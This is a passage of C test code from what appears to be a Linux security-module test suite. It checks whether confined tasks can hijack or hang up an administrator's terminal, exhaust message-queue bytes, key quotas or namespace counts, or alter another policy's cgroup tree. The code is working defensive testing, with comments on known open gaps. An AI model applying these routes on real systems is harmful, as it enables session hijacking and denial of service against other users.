	*err = -1, *read_line = 0, *leader_hup = 0, *reopen = -1;
	master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	VM_CHECK(master >= 0 && grantpt(master) == 0 && unlockpt(master) == 0);
	VM_CHECK(ptsname_r(master, slave, sizeof(slave)) == 0);
	snprintf(a->slave, sizeof(a->slave), "%s", slave);
	VM_CHECK(pipe2(rep, O_CLOEXEC) == 0 && pipe2(go, O_CLOEXEC) == 0);
	leader = fork();
	VM_CHECK(leader >= 0);
	if (leader == 0) {
		/* the administrator's shell: a session leader with the pty as its terminal */
		int s;

		close(master);
		setsid();
		s = open(slave, O_RDWR);
		if (s < 0)
			_exit(2);
		member = fork();
		if (member == 0) {
			close(rep[0]), close(go[1]);
			pid_t me = getpid();

			(void)!write(rep[1], &me, sizeof(me));
			if (read(go[0], &c, 1) != 1)
				_exit(1);
			a31_member(a, s, rep[1]);
		}
		close(rep[0]), close(rep[1]), close(go[0]), close(go[1]);
		for (;;)
			pause();
	}
	close(rep[1]), close(go[0]);
	VM_CHECK(read(rep[0], &member, sizeof(member)) == sizeof(member));
	VM_CHECK(!cgroup || move_into_cgroup(cgroup, member));
	VM_CHECK(write(go[1], &c, 1) == 1);
	if (read(rep[0], reopen, sizeof(*reopen)) != sizeof(*reopen))
		*reopen = -2;
	if (read(rep[0], err, sizeof(*err)) != sizeof(*err))
		*err = -2;
	if ((a->kind == 'p' || a->kind == 's' || a->kind == 'r') && *err == 0) {
		usleep(100 * 1000);
		/* the administrator types a line */
		(void)!write(master, A31_TYPED "\n", strlen(A31_TYPED) + 1);
		if (read(rep[0], read_line, sizeof(*read_line)) != sizeof(*read_line))
			*read_line = -1;
	}
	usleep(300 * 1000);
	if (waitpid(leader, &status, WNOHANG) == leader)
		*leader_hup = WIFSIGNALED(status) && WTERMSIG(status) == SIGHUP ? 1 : 2;
	else {
		kill(leader, SIGKILL);
		waitpid(leader, &status, 0);
	}
	kill(member, SIGKILL);
	close(master);
	close(rep[0]), close(go[1]);
}

VM_TEST(a31_administrators_terminal_shared_with_a_confined_task, 3120)
{
	static const char kinds[] = "psrvV";
	static const uid_t uids[] = {0, A31_USER};
	static const char *const cgroups[] = {NULL, A31, A31_AUDIT};
	char bypass[1536] = "";
	int nbypass = 0, controls = 0;
	long mark;

	a31_setup();
	VM_TIMEOUT(120);
	mark = event_mark();
	signal(SIGPIPE, SIG_IGN);
	if (access("/dev/pts/ptmx", F_OK) != 0)
		VM_CHECK(system("mkdir -p /dev/pts && mount -t devpts -o ptmxmode=0666,mode=0620 "
				"devpts /dev/pts; [ -e /dev/ptmx ] || ln -s pts/ptmx /dev/ptmx") == 0);
	for (int k = 0; kinds[k]; k++)
		for (int u = 0; u < 2; u++)
			for (int c = 0; c < 3; c++) {
				struct a31_ttyarg a = {kinds[k], uids[u], ""};
				int err, line, hup, reopen;
				bool reached;

				a31_tty_try(cgroups[c], &a, &err, &line, &hup, &reopen);
				reached = (kinds[k] == 'p' || kinds[k] == 's' || kinds[k] == 'r')
						  ? line == 1
						  : hup == 1;
				printf("#   %c uid %u %s: its terminal opened anew: %s; %s%s, typed line %s, "
				       "the leader %s\n",
				       kinds[k], uids[u], cgroups[c] ? cgroups[c] : "unconfined",
				       reopen == 0 ? "opened" : reopen > 0 ? strerror(reopen) : "no result",
				       err == 0 ? "made" : err > 0 ? strerror(err) : "no result",
				       err == 9000 ? " (become)" : "",
				       line == 1 ? "READ" : "not read",
				       hup == 1 ? "KILLED by SIGHUP" : hup == 2 ? "died otherwise" : "lives");
				if (!cgroups[c] && reached)
					controls++;
				/* (p), the foreground taken: open (review 57: setpgid into the
				 * foreground group needs no ioctl), reported only */
				if (cgroups[c] && (kinds[k] == 'p' || kinds[k] == 'r')) {
					if (reached)
						printf("#   KNOWN OPEN: the typed line read by uid %u "
						       "under %s (%s)\n",
						       uids[u], cgroups[c] + 5,
						       kinds[k] == 'p' ? "the foreground taken"
								       : "setsid, then a read");
				} else if (cgroups[c] && (reached || err != EPERM)) {
					nbypass++;
					snprintf(bypass + strlen(bypass), sizeof(bypass) - strlen(bypass),
						 " %c(uid %u, %s)", kinds[k], uids[u], cgroups[c] + 5);
				}
			}
	fflush(stdout);
	signal(SIGPIPE, SIG_DFL);
	/* root's control reaches all five; uid 1000's p and r (no capability needed) */
	VM_CHECK(controls >= 7);
	/* the refusals reported as the terminal protection, in the audit policy too */
	for (int c = 1; c < 3; c++) {
		const char *policy = c == 1 ? "\"policy\":\"a31\"" : "\"policy\":\"a31-audit\"";

		EXPECT_EVENT_AFTER(mark, "\"event\":\"deny\"", "\"hook\":\"file_ioctl\"", policy,
				   "\"path\":\"taking over somebody else's terminal (TIOCSCTTY, "
				   "TIOCVHANGUP)\"");
		EXPECT_EVENT_AFTER(mark, "\"event\":\"deny\"", "\"hook\":\"capable\"", policy,
				   "\"path\":\"hanging up somebody else's terminal (vhangup)\"");
	}
	if (nbypass)
		VM_FAIL("BYPASS: a confined task took or hung up the administrator's terminal "
			"(foreground, steal, hangup) with the descriptor it inherited: %d:%s",
			nbypass, bypass);
}

/* ---- 3130: the root user's queue bytes past a raised RLIMIT_MSGQUEUE ---- */

#define A31_MQ_QUEUES 12

struct a31_mqholder {
	volatile int made, err, held, release;
};

static int a31_mq_make(const char *name, long maxmsg, long msgsize)
{
	struct mq_attr attr = {.mq_maxmsg = maxmsg, .mq_msgsize = msgsize};
	int fd = (int)syscall(SYS_mq_open, name, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0600, &attr);

	if (fd < 0)
		return -errno;
	syscall(SYS_mq_unlink, name);
	return fd;
}

static int a31_mq_hold_do(const void *p)
{
	struct a31_mqholder *h = (struct a31_mqholder *)p;
	struct rlimit inf = {RLIM_INFINITY, RLIM_INFINITY};
	char name[64];

	if (setrlimit(RLIMIT_MSGQUEUE, &inf))
		h->err = 5000 + errno;
	for (int i = 0; i < A31_MQ_QUEUES; i++) {
		int fd;

		snprintf(name, sizeof(name), "a31-mq-%d-%d", (int)getpid(), i);
		fd = a31_mq_make(name, 10, 8192);
		if (fd < 0) {
			if (!h->err)
				h->err = -fd;
			break;
		}
		h->made++;
	}
	h->held = 1;
	while (!h->release)
		usleep(10 * 1000);
	return 0;
}

static int a31_mq_probe_do(const void *p)
{
	char name[64];
	int fd;

	(void)p;
	snprintf(name, sizeof(name), "a31-mq-probe-%d", (int)getpid());
	fd = a31_mq_make(name, 1, 8);
	if (fd < 0)
		return -fd;
	close(fd);
	return 0;
}

static int a31_mq_round(const char *cgroup, int *made, int *err)
{
	struct a31_mqholder *h = mmap(NULL, sizeof(*h), PROT_READ | PROT_WRITE,
				      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct in_cgroup_thread th;
	int probe;

	memset((void *)h, 0, sizeof(*h));
	VM_CHECK(in_cgroup_start(&th, cgroup, a31_mq_hold_do, (void *)h));
	for (int i = 0; i < 10000 && !h->held; i++)
		usleep(1000);
	probe = in_cgroup(NULL, a31_mq_probe_do, NULL);
	*made = h->made;
	*err = h->err;
	printf("#   %s root: RLIMIT_MSGQUEUE raised %s; %d queues of 82,880 bytes made (then %s); "
	       "the host root's queue of 8 bytes: %s\n",
	       cgroup ? cgroup : "unconfined", h->err >= 5000 ? "REFUSED" : "to infinity", h->made,
	       h->err ? strerror(h->err % 1000) : "-", probe ? strerror(probe) : "made");
	fflush(stdout);
	h->release = 1;
	in_cgroup_join(&th);
	munmap((void *)h, sizeof(*h));
	usleep(300 * 1000);
	return probe;
}

VM_TEST(a31_root_queue_bytes_past_a_raised_rlimit, 3130)
{
	char denial[256] = "";
	int made, err, control, ndenial = 0;

	a31_setup();
	VM_TIMEOUT(60);
	for (int c = 0; c < 2; c++) {
		int probe = a31_mq_round(a31_confined[c], &made, &err);

		if (probe || made > 7) {
			ndenial++;
			snprintf(denial + strlen(denial), sizeof(denial) - strlen(denial),
				 " %s(%d made, probe %s)", a31_confined[c] + 5, made,
				 probe ? strerror(probe) : "made");
		}
	}
	control = a31_mq_round(NULL, &made, &err);
	VM_CHECK(control == EMFILE && made == A31_MQ_QUEUES);
	/* open, the CAP_SYS_RESOURCE class (docs/policy.md): reported, not asserted */
	if (ndenial)
		printf("#   KNOWN OPEN: a confined root past three quarters of the root user's queue "
		       "bytes with its own RLIMIT_MSGQUEUE raised: %d:%s\n",
		       ndenial, denial);
}

/* ---- 3140: uid 1000's key quota through request_key's negative keys ---- */

struct a31_rkholder {
	volatile int made, refused, first_err, last_err, held, release;
};

static int a31_rk_hold_do(const void *p)
{
	struct a31_rkholder *h = (struct a31_rkholder *)p;
	char desc[64];

	if (become(A31_USER))
		return h->first_err = 9000;
	for (int i = 0; i < 200; i++) {
		long id;

		snprintf(desc, sizeof(desc), "a31-rk-%d-%d", (int)getpid(), i);
		id = syscall(SYS_request_key, "user", desc, "a31", KEY_SPEC_PROCESS_KEYRING);
		if (id >= 0) {
			h->made++;
			continue;
		}
		if (!h->first_err)
			h->first_err = errno;
		h->last_err = errno;
		h->refused++;
		if (errno == EDQUOT)
			break;
	}
	h->held = 1;
	while (!h->release)
		usleep(10 * 1000);
	return 0;
}

static int a31_rk_probe_do(const void *p)
{
	(void)p;
	if (become(A31_USER))
		return 9000;
	return syscall(SYS_add_key, "user", "a31-rk-probe", "p", 1, KEY_SPEC_PROCESS_KEYRING) < 0
		   ? errno
		   : 0;
}

static int a31_rk_round(const char *cgroup, unsigned *keys)
{
	struct a31_rkholder *h = mmap(NULL, sizeof(*h), PROT_READ | PROT_WRITE,
				      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct in_cgroup_thread th;
	unsigned bytes;
	int probe;

	memset((void *)h, 0, sizeof(*h));
	VM_CHECK(in_cgroup_start(&th, cgroup, a31_rk_hold_do, (void *)h));
	for (int i = 0; i < 60000 && !h->held; i++)
		usleep(1000);
	user_key_charge(A31_USER, keys, &bytes);
	probe = in_cgroup(NULL, a31_rk_probe_do, NULL);
	printf("#   %s uid 1000: request_key %d returned a key, %d failed (first %s, last %s); uid "
	       "1000 charged %u keys, %u bytes; the host uid 1000's add_key: %s\n",
	       cgroup ? cgroup : "unconfined", h->made, h->refused,
	       h->first_err ? strerror(h->first_err % 1000) : "-",
	       h->last_err ? strerror(h->last_err) : "-", *keys, bytes,
	       probe ? strerror(probe % 1000) : "made");
	fflush(stdout);
	h->release = 1;
	in_cgroup_join(&th);
	munmap((void *)h, sizeof(*h));
	return probe;
}

VM_TEST(a31_user_key_quota_through_request_keys_negative_keys, 3140)
{
	long maxkeys = read_number("/proc/sys/kernel/keys/maxkeys");
	char denial[256] = "";
	int ndenial = 0, control;
	unsigned keys;

	a31_setup();
	VM_TIMEOUT(240);
	for (int c = 0; c < 2; c++) {
		int probe = a31_rk_round(a31_confined[c], &keys);

		if (probe || keys > (unsigned)(maxkeys - maxkeys / 4) + 1) {
			ndenial++;
			snprintf(denial + strlen(denial), sizeof(denial) - strlen(denial),
				 " %s(%u keys, probe %s)", a31_confined[c] + 5, keys,
				 probe ? strerror(probe % 1000) : "made");
		}
		sleep(1);
	}
	control = a31_rk_round(NULL, &keys);
	printf("#   maxkeys %ld (share %ld)\n", maxkeys, maxkeys - maxkeys / 4);
	/* the route works: unconfined, the negative keys go past the share (to the whole quota,
	 * where the host's add_key gets EDQUOT, or within a key or two of it: the confined
	 * rounds' negative keys expire meanwhile, lead's run 198 of 200) */
	VM_CHECK(control == EDQUOT || keys > (unsigned)(maxkeys - maxkeys / 4) + 1);
	if (ndenial)
		VM_FAIL("DENIAL: uid 1000's keys past three quarters of its quota through request_key: "
			"%d:%s",
			ndenial, denial);
}

/* ---- 3150: mkdir and rmdir in another policy's cgroup ---- */

#define A31_VCG "/sys/fs/cgroup" A31_VICTIM

struct a31_cgarg {
	char op; /* m mkdir, r rmdir */
	const char *path;
};

static int a31_cg_do(const void *p)
{
	const struct a31_cgarg *a = p;

	if (a->op == 'm')
		return mkdir(a->path, 0755) ? errno : 0;
	return rmdir(a->path) ? errno : 0;
}

VM_TEST(a31_other_policys_cgroup_tree_by_mkdir_and_rmdir, 3150)
{
	char bypass[512] = "";
	int nbypass = 0, control_m = -1, control_r = -1;
	long mark;

	a31_setup();
	VM_TIMEOUT(60);
	mark = event_mark();
	VM_CHECK(mkdir(A31_VCG, 0755) == 0 || errno == EEXIST);
	for (int c = -1; c < 2; c++) {
		const char *cg = c < 0 ? NULL : a31_confined[c];
		struct a31_cgarg m = {'m', A31_VCG "/a31-made"}, r = {'r', A31_VCG "/payload"};
		int got_m, got_r, victim_m;

		rmdir(A31_VCG "/a31-made");
		rmdir(A31_VCG "/victims-own");
		VM_CHECK(mkdir(A31_VCG "/payload", 0755) == 0 || errno == EEXIST);
		write_into(A31_VCG "/cgroup.max.descendants", "2");
		got_m = in_cgroup(cg, a31_cg_do, &m);
		got_r = in_cgroup(cg, a31_cg_do, &r);
		/* the victim's own next cgroup (its payload kept, or made again) */
		if (access(A31_VCG "/payload", F_OK) != 0)
			mkdir(A31_VCG "/payload", 0755);
		victim_m = mkdir(A31_VCG "/victims-own", 0755) ? errno : 0;
		printf("#   %s root: mkdir in a31-victim's cgroup %s, rmdir of its payload %s; the "
		       "victim's next mkdir %s\n",
		       cg ? cg : "unconfined", got_m ? strerror(got_m) : "MADE",
		       got_r ? strerror(got_r) : "REMOVED", victim_m ? strerror(victim_m) : "made");
		if (c < 0) {
			control_m = got_m;
			control_r = got_r;
		} else {
			if (got_m != EPERM) {
				nbypass++;
				snprintf(bypass + strlen(bypass), sizeof(bypass) - strlen(bypass),
					 " mkdir(%s, victim's mkdir %s)", cg + 5,
					 victim_m ? strerror(victim_m) : "made");
			}
			if (got_r != EPERM) {
				nbypass++;
				snprintf(bypass + strlen(bypass), sizeof(bypass) - strlen(bypass),
					 " rmdir(%s)", cg + 5);
			}
		}
		write_into(A31_VCG "/cgroup.max.descendants", "max");
		rmdir(A31_VCG "/a31-made");
		rmdir(A31_VCG "/victims-own");
	}
	rmdir(A31_VCG "/payload");
	VM_CHECK(control_m == 0 && control_r == 0);
	/* reported as the cgroup files' protection, in the audit policy too */
	EXPECT_EVENT_AFTER(mark, "\"event\":\"deny\"", "\"hook\":\"path_mkdir\"",
			   "\"policy\":\"a31\"", "\"path\":\"" A31_VCG "/a31-made\"");
	EXPECT_EVENT_AFTER(mark, "\"event\":\"deny\"", "\"hook\":\"path_rmdir\"",
			   "\"policy\":\"a31-audit\"", "\"path\":\"" A31_VCG "/payload\"");
	if (nbypass)
		VM_FAIL("BYPASS: another policy's cgroup tree changed by a confined root: %d:%s",
			nbypass, bypass);
}

/* ---- 3160: the root user's UTS and IPC namespace counts ---- */

#define A31_NS_LIMIT 200

struct a31_nsholder {
	int flag;
	volatile int made, err, held, release;
};

static int a31_ns_hold_do(const void *p)
{
	struct a31_nsholder *h = (struct a31_nsholder *)p;
	const char *link = h->flag == CLONE_NEWUTS ? "/proc/self/ns/uts" : "/proc/self/ns/ipc";

	for (int i = 0; i < A31_NS_LIMIT + 20; i++) {
		int fd;

		if (unshare(h->flag)) {
			h->err = errno;
			break;
		}
		fd = open(link, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			h->err = 1000 + errno;
			break;
		}
		h->made++;
	}
	h->held = 1;
	while (!h->release)
		usleep(10 * 1000);
	return 0;
}

static int a31_ns_probe_do(const void *p)
{
	return unshare(*(const int *)p) ? errno : 0;
}

static int a31_ns_round(const char *cgroup, int flag, int *made)
{
	struct a31_nsholder *h = mmap(NULL, sizeof(*h), PROT_READ | PROT_WRITE,
				      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct in_cgroup_thread th;
	int probe;

	memset((void *)h, 0, sizeof(*h));
	h->flag = flag;
	VM_CHECK(in_cgroup_start(&th, cgroup, a31_ns_hold_do, (void *)h));
	for (int i = 0; i < 20000 && !h->held; i++)
		usleep(1000);
	probe = in_cgroup(NULL, a31_ns_probe_do, &flag);
	*made = h->made;
	printf("#   %s root: %d %s namespaces kept (then %s); the host root's unshare: %s\n",
	       cgroup ? cgroup : "unconfined", h->made, flag == CLONE_NEWUTS ? "UTS" : "IPC",
	       h->err ? strerror(h->err % 1000) : "-", probe ? strerror(probe) : "made");
	fflush(stdout);
	h->release = 1;
	in_cgroup_join(&th);
	munmap((void *)h, sizeof(*h));
	usleep(300 * 1000);
	return probe;
}

VM_TEST(a31_root_users_namespace_counts, 3160)
{
	static const char *const knobs[] = {"/proc/sys/user/max_uts_namespaces",
					    "/proc/sys/user/max_ipc_namespaces"};
	static const int flags[] = {CLONE_NEWUTS, CLONE_NEWIPC};
	char denial[512] = "";
	int ndenial = 0, controls = 0;

	a31_setup();
	VM_TIMEOUT(120);
	for (int k = 0; k < 2; k++) {
		long old = read_number(knobs[k]);
		int flag = flags[k], made;

		write_number(knobs[k], A31_NS_LIMIT);
		VM_CHECK(in_cgroup(NULL, a31_ns_probe_do, &flag) == 0); /* room before */
		for (int c = 0; c < 2; c++) {
			int probe = a31_ns_round(a31_confined[c], flag, &made);

			if (probe) {
				ndenial++;
				snprintf(denial + strlen(denial), sizeof(denial) - strlen(denial),
					 " %s/%s(%d kept, host %s)", k ? "ipc" : "uts",
					 a31_confined[c] + 5, made, strerror(probe));
			}
		}
		if (a31_ns_round(NULL, flag, &made) == ENOSPC)
			controls++;
		write_number(knobs[k], old);
	}
	/* the UTS round's control is exact; IPC namespaces are freed by a worker later, so the
	 * confined rounds' may still be counted when the control runs (the full suite: 19 kept,
	 * then the host's unshare made) */
	VM_CHECK(controls >= 1);
	/* open (no LSM hook at their creation in 6.1): reported, not asserted */
	if (ndenial)
		printf("#   KNOWN OPEN: a confined root used up the root user's namespaces; the "
		       "host's unshare failed: %d:%s\n",
		       ndenial, denial);
}
